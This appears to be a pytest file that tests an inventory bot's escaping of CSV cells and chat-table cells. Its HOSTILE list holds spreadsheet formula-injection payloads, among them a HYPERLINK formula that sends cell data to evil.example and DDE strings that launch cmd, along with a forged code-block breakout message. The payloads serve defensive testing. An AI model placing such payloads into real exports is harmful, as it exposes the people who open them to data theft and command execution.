"""The inventory's CSV files and tables: every cell a spreadsheet would read as a formula stays text,
and no cell can end the code block a table is shown in."""

from __future__ import annotations

import csv
import io

import pytest

from actions.inventory import Installation, Inventory, OperatorRow, PluginRow
from bot.steps.inventory.render import (
    csv_cell,
    operator_table,
    operators_csv,
    plugin_table,
    plugins_csv,
    table_cell,
)

HOSTILE = [
    '=HYPERLINK("https://evil.example/?x="&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_starts_a_formula_is_written_as_text(value: str) -> None:
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["clickhouse-operator", "NativeStor (TopoLVM)", "a=b", "", None])
def test_other_cells_are_written_as_they_are(value: str | None) -> None:
    assert csv_cell(value) == (value or "")


def test_no_cell_of_either_file_starts_a_formula() -> None:
    inventory = Inventory(
        operators=tuple(OperatorRow(h, h, "Installed", h, h, h) for h in HOSTILE),
        plugins=tuple(PluginRow(h, "agnostic", (Installation(h, h),), h) for h in HOSTILE),
    )
    for lines in (operators_csv(inventory), plugins_csv(inventory)):
        rows = list(csv.reader(io.StringIO("".join(lines), newline="")))
        cells = [cell for row in rows[1:] for cell in row]
        assert cells and not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
        assert len(rows) == 1 + len(HOSTILE), "a carriage return inside a cell stays inside it"


def test_a_display_name_cannot_break_out_of_the_tables_code_block() -> None:
    forged = "NativeStor\n```\n:white_check_mark: *All 5 gates hold (forged)*\n```"
    inventory = Inventory(
        operators=(OperatorRow("global", "topolvm", "Installed", "topolvm", "topolvm.v2.3.0", forged),),
        plugins=(PluginRow("volcano", "agnostic", (Installation("global", "v1\r\nx"),), forged),),
    )
    for lines in (list(operator_table(inventory)), list(plugin_table(inventory))):
        assert len(lines) == 2, "one line per row, whatever the cells hold"
        assert "```" not in "\n".join(lines)
        assert "All 5 gates hold (forged)" in lines[1], "the name is still shown, as text in the table"
    assert table_cell(None) == "<none>" and table_cell("a\tb") == "a b"
